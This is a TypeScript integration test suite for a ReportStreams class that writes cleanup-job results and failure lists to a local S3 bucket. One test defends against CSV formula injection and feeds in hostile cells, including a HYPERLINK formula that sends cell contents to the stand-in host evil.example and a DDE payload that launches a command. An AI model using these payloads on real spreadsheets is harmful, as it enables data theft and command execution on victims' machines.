import { GetObjectCommand } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { CleanupTarget } from '../../lib/modelarts/CleanupTarget.js';
import { manifestFormatOf } from '../../lib/manifest/manifestFormat.js';
import type { OutcomeRecord } from '../../lib/pipeline/outcome.js';
import { readManifestEntries } from '../../lib/manifest/readManifestEntries.js';
import { ReportStreams } from '../../lib/report/ReportStreams.js';
import { ReportWriteError } from '../../lib/core/errors.js';
import type { ResultLine } from '../support/readResults.js';
import { imageIds } from '../support/stackDeps.js';
import { useLocalStack } from '../support/useLocalStack.js';

// Integration: multipart uploads to the local S3 (fauxqs), read back.
const stack = useLocalStack();

const target: CleanupTarget = { api: 'v1', projectId: '0123456789abcdef0123456789abcdef', dataAnnotationId: '282' };

async function body(key: string): Promise<Buffer> {
  const object = await stack.s3.send(new GetObjectCommand({ Bucket: stack.env.REPORT_BUCKET, Key: key }));
  return Buffer.from(await object.Body!.transformToByteArray());
}

describe('ReportStreams', () => {
  it('streams every outcome to results.jsonl.gz and failures to failed.csv, which reads back as a manifest of exactly the failed IDs', async () => {
    // Prepare: enough records for several multipart parts of the (poorly compressible) results file
    const ids = imageIds('report', 120_000);
    const records: OutcomeRecord[] = ids.map((id, i) =>
      i % 10 === 0
        ? { imageId: id, position: i + 1, outcome: 'failed', errorCode: 'ModelArts.0104', errorMessage: 'bad, "quoted"\nmessage' }
        : { imageId: id, position: i + 1, outcome: 'deleted' },
    );
    records.push({ imageId: 'not-an-id', position: 120_001, outcome: 'invalid', errorCode: 'INVALID_IMAGE_ID', errorMessage: 'expected 32 hexadecimal characters, got 9' });
    const location = { bucket: stack.env.REPORT_BUCKET!, failedKey: 'streams/failed.csv', resultsKey: 'streams/results.jsonl.gz' };

    // Act
    const streams = new ReportStreams(stack.s3, location, target);
    for (let i = 0; i < records.length; i += 100) await streams.write(records.slice(i, i + 100));
    await streams.close();

    // Assess
    const results = gunzipSync(await body(location.resultsKey)).toString('utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as ResultLine);
    expect(results).toHaveLength(records.length);
    expect(results[0]).toEqual({ image_id: ids[0], outcome: 'failed', line: 1, error_code: 'ModelArts.0104', error_message: 'bad, "quoted"\nmessage' });
    expect(results[1]).toEqual({ image_id: ids[1], outcome: 'deleted', line: 2 });

    const failedCsv = await body(location.failedKey);
    const items = [];
    for await (const item of readManifestEntries(Readable.from([failedCsv]), manifestFormatOf(location.failedKey))) items.push(item);
    const entries = items.filter((item) => item.kind === 'entry').map((item) => (item.kind === 'entry' ? item.value : ''));
    expect(entries).toEqual(records.filter((r) => r.outcome !== 'deleted').map((r) => r.imageId));
    const targets = new Set(items.filter((item) => item.kind === 'target').map((item) => JSON.stringify(item.kind === 'target' ? item.target : {})));
    expect([...targets]).toEqual([JSON.stringify({ projectId: target.projectId, dataAnnotationId: '282' })]);
  });

  it('writes no cell a spreadsheet would run as a formula, and failed.csv still reads back as a manifest of exactly the entries written', async () => {
    // Prepare: entries and messages as a hostile manifest or service could make them
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2', '\t=1', '\r=1', "'=already quoted", "''@twice", 'plain-not-an-id'];
    const records: OutcomeRecord[] = hostile.map((entry, i) => ({ imageId: entry, position: i + 1, outcome: 'invalid', errorCode: 'INVALID_IMAGE_ID', errorMessage: `expected 32 hexadecimal characters, got ${entry.length}` }));
    records.push({ imageId: imageIds('formula', 1)[0]!, position: 99, outcome: 'failed', errorCode: '=ModelArts.0000', errorMessage: '-1 is not allowed: =HYPERLINK("x")' });
    const location = { bucket: stack.env.REPORT_BUCKET!, failedKey: 'formulas/failed.csv', resultsKey: 'formulas/results.jsonl.gz' };

    // Act
    const streams = new ReportStreams(stack.s3, location, target);
    await streams.write(records);
    await streams.close();

    // Assess: no cell of the file starts like a formula (OWASP: =, +, -, @, tab, CR)
    const failedCsv = await body(location.failedKey);
    const cells: string[] = (parse(failedCsv) as unknown[][]).flat() as string[];
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"open")');
    expect(cells).toContain("'-1 is not allowed: =HYPERLINK(\"x\")");
    // ...and a re-run of failed.csv reads exactly the entries that were written
    const items = [];
    for await (const item of readManifestEntries(Readable.from([failedCsv]), manifestFormatOf(location.failedKey))) items.push(item);
    expect(items.filter((item) => item.kind === 'entry').map((item) => (item.kind === 'entry' ? item.value : ''))).toEqual(records.map((record) => record.imageId));
    // results.jsonl.gz is JSON, which no spreadsheet runs: written as it is
    const results = gunzipSync(await body(location.resultsKey)).toString('utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as ResultLine);
    expect(results.map((line) => line.image_id)).toEqual(records.map((record) => record.imageId));
  });

  it('throws ReportWriteError from write or close when S3 refuses the files', async () => {
    // Prepare: enough results for a multipart part, into a bucket that does not exist
    const ids = imageIds('refused', 120_000);
    const location = { bucket: 'no-such-report-bucket', failedKey: 'refused/failed.csv', resultsKey: 'refused/results.jsonl.gz' };
    const streams = new ReportStreams(stack.s3, location, target);

    // Act
    let error: unknown;
    try {
      for (let i = 0; i < ids.length; i += 100) await streams.write(ids.slice(i, i + 100).map((id, k) => ({ imageId: id, position: i + k + 1, outcome: 'deleted' })));
    } catch (thrown) {
      error = thrown;
    }
    const closing = await streams.close().then(() => undefined, (thrown: unknown) => thrown);

    // Assess
    expect(closing).toBeInstanceOf(ReportWriteError);
    if (error !== undefined) expect(error).toBe(closing);
    expect((closing as ReportWriteError).message).toContain('s3://no-such-report-bucket/refused/');
  });

  it('writes a header-only failed.csv and an empty results file for a job with nothing to report', async () => {
    // Act
    const location = { bucket: stack.env.REPORT_BUCKET!, failedKey: 'empty/failed.csv', resultsKey: 'empty/results.jsonl.gz' };
    const streams = new ReportStreams(stack.s3, location, target);
    await streams.close();

    // Assess
    expect((await body(location.failedKey)).toString('utf8')).toBe('image_id,outcome,error_code,error_message,line,project_id,data_annotation_id,dataset_id\n');
    expect(gunzipSync(await body(location.resultsKey)).length).toBe(0);
  });
});
